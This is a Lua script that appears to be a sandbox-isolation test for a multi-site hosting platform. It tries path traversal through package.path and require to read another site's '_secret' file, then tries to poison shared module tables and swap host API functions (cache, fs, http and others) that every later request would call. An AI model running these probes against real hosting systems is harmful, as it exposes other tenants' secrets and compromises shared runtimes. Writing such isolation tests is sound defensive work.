-- package.path, package.searchpath and require aimed at the victim's files; then the shared tables poisoned.
local root = request.query.root or "/"
local out = {}
local function try(label, path, name)
  package.path = path
  local ok, got = pcall(require, name)
  local found = package.searchpath(name, path, "", "")
  out[#out + 1] = label .. " " .. tostring(ok) .. " " .. tostring(found)
  if ok then out[#out + 1] = "LOADED " .. tostring(got) end
end
try("relative", "../b.test/?.txt;../b.test/lua/?.lua", "_secret")
try("deeper", "../../b.test/?.txt;_lib/../../b.test/?.txt", "_secret")
try("absolute", root .. "/b.test/?.txt", "_secret")
try("link", "?.txt", "link")
try("victim page", "../b.test/lua/?.lua", "hello")
try("dots", "?", "...b.test._secret.txt")
-- What another request would read, were it shared.
package.loaded.string = "poisoned"
package.preload.hello = function() return "poisoned" end
package.path = "../b.test/?.txt"
out[#out + 1] = "rawset io " .. tostring((pcall(rawset, io, "write", print)))
out[#out + 1] = "assign stdout " .. tostring((pcall(function() io.stdout.write = nil end)))
out[#out + 1] = "assign debug " .. tostring((pcall(function() debug.sethook = print end)))
out[#out + 1] = "getmetatable loaded " .. tostring(getmetatable(package.loaded))
-- The host API's own tables: a field swapped there would be called by every later request of every site.
local swapped = {}
for _, name in ipairs({"cache", "fs", "log", "json", "template", "http", "io", "debug"}) do
  local t = _G[name]
  local key = next(getmetatable(t) == false and {} or t) or ({cache = "get", fs = "read", log = "info", json = "encode",
    template = "render", http = "request", io = "write", debug = "traceback"})[name]
  if pcall(function() t[key] = function() return "poisoned" end end) then swapped[#swapped + 1] = name .. "." .. key end
end
out[#out + 1] = "swapped " .. table.concat(swapped, ",")
response.write(table.concat(out, "\n"))
